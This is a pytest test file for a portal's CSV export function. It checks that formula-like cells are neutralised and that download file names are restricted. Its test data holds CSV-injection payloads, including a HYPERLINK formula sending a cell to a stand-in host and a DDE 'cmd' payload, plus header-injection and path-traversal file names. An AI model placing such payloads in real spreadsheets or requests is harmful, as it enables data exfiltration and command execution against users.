"""Exports: what a spreadsheet must not run, and a file name that tells nobody (D17)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from mdo_portal.web.csv import as_csv

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://canary.example/?x="&A1)',
    "+31201234567",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "|calc",
    "%0A=1+1",
    "\x00=1+1",
    "=cmd|' /C calc'!A0",
]


def _cells(rows: list[list[object]]) -> list[list[str]]:
    text = as_csv(rows).get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("value", DANGEROUS, ids=range(len(DANGEROUS)))
def test_no_cell_is_a_formula(value: str) -> None:
    [[before, found, after]] = _cells([["a", value, "b"]])

    assert found.startswith("'") and (before, after) == ("a", "b")


def test_ordinary_cells_stay_as_they_are() -> None:
    ordinary = ["van Voorbeeld", "a;b", 'zij zei "nee"', "5-3", "", "é"]

    assert _cells([ordinary, [-3, 2.5, None, datetime(2026, 3, 2, 13, 30, tzinfo=UTC)]]) == [
        ordinary,
        ["-3", "2.5", "", "2026-03-02 14:30:00"],
    ]


def test_a_row_stays_one_line() -> None:
    assert as_csv([["a\r\nb\u2028c"], ["d"]]).get_data(as_text=True).count("\r\n") == 2


def test_it_is_a_download_whose_name_tells_nobody() -> None:
    answer = as_csv([["a"]], name="wie-keek")

    assert answer.headers["Content-Disposition"] == 'attachment; filename="wie-keek.csv"'
    assert answer.headers["Cache-Control"] == "no-store"
    for name in ("bsn-999911120", "Janssen", "a\r\nSet-Cookie: b", "../a", "", "a" * 10 + "1"):
        with pytest.raises(ValueError, match="words and hyphens"):
            as_csv([["a"]], name=name)
